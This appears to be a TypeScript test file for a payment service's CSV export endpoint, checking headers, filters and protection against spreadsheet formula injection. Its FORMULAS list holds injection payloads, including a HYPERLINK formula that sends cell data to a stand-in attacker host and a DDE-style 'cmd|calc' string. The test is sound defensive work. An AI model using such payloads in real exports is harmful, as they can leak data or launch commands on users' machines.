import { startPostgres, type PostgresServer } from 'test-servers';
import { PaymentWorld } from '../../payments/payments.testing';
import { ExportsController } from './exports.controller';

/** What customers may type that a spreadsheet would calculate. */
const FORMULAS = [
  `=HYPERLINK("https://evil.example?x="&A1,"here")`,
  '@SUM(1+1)*cmd|calc!A0',
  '+1+1',
  '-2+3',
  '= 1',
  '＝1+1',
  `"=1+1`,
  `=1\n=2`,
  `x","=1+1`,
  `';=1`,
];
const CALCULATES = /^[\s]*[=+\-@|%＝＋－＠]/;

/** The cells of a file, by the rules of RFC 4180. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  const CELL = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|$)/y;
  for (let at = 0; at < text.length; at = CELL.lastIndex) {
    CELL.lastIndex = at;
    const [, cell = '', end] = CELL.exec(text) ?? [];
    if (end === undefined) throw new Error(`No cell at ${text.slice(at, at + 20)}`);
    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

describe(ExportsController, () => {
  let postgres: PostgresServer;
  let world: PaymentWorld;

  beforeAll(async () => {
    postgres = await startPostgres();
    world = await PaymentWorld.start(await postgres.createDatabase());
  });
  afterAll(async () => {
    await world.stop();
    await postgres.stop();
  });

  const file = async (path: string) => {
    const options = { user: 'saraa', roles: ['viewer'] };
    const response = await world.request('GET', `/api/operator/exports/${path}`, options);
    const bytes = Buffer.from(await response.arrayBuffer());
    const [head = [], ...rows] = cellsOf(bytes.subarray(3).toString('utf8'));
    const read = rows.map((row) => Object.fromEntries(row.map((cell, at) => [head[at], cell])));
    return { response, bytes, head, rows, read };
  };

  it.each([
    ['orders.csv', 'orderId'],
    ['payments.csv', 'paymentId'],
  ])('%s comes as a file of UTF-8 with its mark, that no browser shows or keeps', async (name, first) => {
    const { response, bytes, head } = await file(name);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(head[0]).toBe(first);
    expect(response.status).toBe(200);
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': `attachment; filename="${name}"`,
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    });
  });

  it('no cell of it calculates, whatever customers have typed, and the text is still there', async () => {
    for (const text of FORMULAS) {
      const body = { amount: 100, description: text, reference: text.replaceAll('\n', ' ') };
      const answer = await world.send('POST', '/api/create-payment-session', { user: 'typist', body });
      expect(answer.status).toBe(201);
      await world.qpay.pay(String(answer.body['invoiceId']));
    }
    const orders = await file('orders.csv?userId=typist');
    const payments = await file('payments.csv');
    expect([orders.rows.length, payments.rows.length]).toEqual([FORMULAS.length, FORMULAS.length]);
    for (const { head, rows } of [orders, payments])
      for (const row of rows) {
        expect(row).toHaveLength(head.length);
        expect(row.filter((cell) => CALCULATES.test(cell))).toEqual([]);
      }
    const typed = orders.read.map(({ description = '' }) => description.replace(/^'(?=[=+\-@＝])/, ''));
    expect(typed.sort()).toEqual([...FORMULAS].sort());
    expect(orders.read.every(({ amount, status }) => amount === '100.00' && status === 'PAID')).toBe(true);
  });

  it('holds what the filters let through, and refuses a filter that does not exist', async () => {
    const { order, invoiceId } = await world.startInvoice({ userId: 'one', description: 'Өвөр монгол' });
    await world.startInvoice({ userId: 'two' });
    const { paymentId } = await world.qpay.pay(invoiceId);
    const { read } = await file('orders.csv?userId=one');
    expect(read).toMatchObject([{ orderId: order.id, description: 'Өвөр монгол', captured: '100.00' }]);
    const from = new Date(Date.now() + 3_600_000).toISOString();
    expect((await file(`payments.csv?from=${from}`)).rows).toEqual([]);
    const all = await file(`payments.csv?to=${from}`);
    expect(all.read.at(-1)).toMatchObject({ paymentId, orderId: order.id, amount: '100.00' });
    const wrong = '/api/operator/exports/orders.csv?nothing=1';
    expect((await world.send('GET', wrong, { roles: ['viewer'] })).status).toBe(400);
  });
});
